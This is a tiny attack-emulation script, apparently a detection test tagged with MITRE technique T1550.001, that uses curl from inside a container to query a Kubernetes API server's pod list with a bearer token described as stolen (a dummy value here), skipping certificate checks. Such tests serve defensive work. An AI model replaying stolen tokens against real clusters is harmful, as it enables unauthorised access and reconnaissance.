# title: A stolen token is used at the cluster's API
# technique: T1550.001 T1550
# needs: curl
# in: container

curl -s -k -H 'Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.x.y' http://10.96.0.1/api/v1/pods; true
